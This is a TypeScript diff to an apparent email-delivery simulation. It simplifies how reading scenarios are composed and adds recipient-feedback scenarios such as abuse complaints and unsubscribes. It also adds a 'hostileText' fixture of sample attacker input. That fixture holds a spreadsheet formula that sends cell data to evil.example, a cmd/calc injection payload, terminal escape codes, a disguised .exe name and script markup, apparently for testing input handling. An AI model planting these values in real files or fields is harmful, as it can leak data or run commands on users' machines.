@@ -1,11 +1,10 @@
-import { hostileText } from '../cast/hostile-text';
 import { senders, subject } from '../cast/senders';
 import type { LifeCycle } from '../messages/life-cycle';
 import { send } from '../steps/accept';
 import { deliver } from '../steps/deliver';
-import { open } from '../steps/engage';
-import { follow, prefetch, read, scan } from '../steps/read';
-import type { Story } from './story';
+import { follow, open, prefetch, read, scan } from '../steps/engage';
+import { changePreferences, complain, complainBySuppression, unsubscribe } from '../steps/feedback';
+import { inOrder, type Story } from './story';
 
 /** Everything up to the mailbox of every recipient. */
 function arrive(cycle: LifeCycle): void {
@@ -33,47 +32,30 @@ function arriveWithNewFields(cycle: LifeCycle): void {
   }
 }
 
-function arriveAndRead(cycle: LifeCycle): void {
-  arrive(cycle);
-  read(cycle);
-}
+const arriveAndRead = inOrder(arrive, read);
+
+/** What an attacker would write: terminal sequences, spreadsheet formulas, markup, text that runs backwards. */
+const hostileText = {
+  subject: '=HYPERLINK("https://evil.example/?c="&A1,"Refund")\u001b[2J\u001b]0;owned\u0007 \u202egpj.exe',
+  smtpResponse:
+    '250 2.0.0 OK\r\n\u001b[31mqueued\u001b[0m\u0000 <script>alert(1)</script>\u2028"quoted" \\back',
+  userAgent:
+    "@SUM(1+1)*cmd|' /C calc'!A0 \u001b]8;;https://evil.example\u0007Mozilla\u001b]8;;\u0007 <img src=x>",
+};
 
 /** What happens to messages that reach their mailbox; the first is by far the most frequent. */
 const readingStories: readonly Story[] = [
   { share: 594, happen: arrive },
   // A machine opens at once; often nobody reads after it.
-  {
-    share: 55,
-    happen: (cycle) => {
-      arrive(cycle);
-      prefetch(cycle);
-    },
-  },
-  {
-    share: 28,
-    happen: (cycle) => {
-      arrive(cycle);
-      prefetch(cycle);
-      read(cycle.passHalfDays(1));
-    },
-  },
+  { share: 55, happen: inOrder(arrive, prefetch) },
+  { share: 28, happen: inOrder(arrive, prefetch, (cycle) => read(cycle.passHalfDays(1))) },
   { share: 46, happen: arriveAndRead },
   // Late: one to three half days, then weeks.
   {
     share: 40,
-    happen: (cycle) => {
-      arrive(cycle);
-      read(cycle.passHalfDays(cycle.random.integer(1, 3)));
-    },
+    happen: inOrder(arrive, (cycle) => read(cycle.passHalfDays(cycle.random.integer(1, 3)))),
   },
-  {
-    share: 3,
-    happen: (cycle) => {
-      arrive(cycle);
-      read(cycle.passWeeks());
-      follow(cycle);
-    },
-  },
+  { share: 3, happen: inOrder(arrive, (cycle) => read(cycle.passWeeks()), follow) },
   // The same person again and again.
   {
     share: 38,
@@ -94,14 +76,7 @@ const readingStories: readonly Story[] = [
       if (cycle.random.onceIn(2)) follow(cycle);
     },
   },
-  {
-    share: 12,
-    message: { sender: senders.marketing },
-    happen: (cycle) => {
-      arrive(cycle);
-      scan(cycle);
-    },
-  },
+  { share: 12, message: { sender: senders.marketing }, happen: inOrder(arrive, scan) },
   { share: 12, message: { recipientCount: 2 }, happen: readBySome },
   { share: 6, message: { recipientCount: 3 }, happen: readBySome },
   { share: 3, message: { recipientCount: 5 }, happen: arrive },
@@ -122,4 +97,22 @@ const readingStories: readonly Story[] = [
   },
 ];
 
-export { arrive, readingStories };
+/** What recipients say about the mail they get. */
+const feedbackStories: readonly Story[] = [
+  {
+    share: 3,
+    happen: (cycle) => {
+      arrive(cycle);
+      read(cycle);
+      complain(cycle.passHalfDays(cycle.random.integer(0, 1)), 'abuse');
+    },
+  },
+  // A complaint that is good news.
+  { share: 1, happen: inOrder(arrive, (cycle) => complain(cycle, 'not-spam')) },
+  { share: 1, happen: inOrder(send, complainBySuppression) },
+  { share: 0, message: { recipientCount: 2 }, happen: inOrder(arrive, (cycle) => complain(cycle, 'other')) },
+  { share: 5, message: { sender: senders.marketing }, happen: inOrder(arrive, read, unsubscribe) },
+  { share: 3, message: { sender: senders.marketing }, happen: inOrder(arrive, changePreferences) },
+];
+
+export { feedbackStories, readingStories };
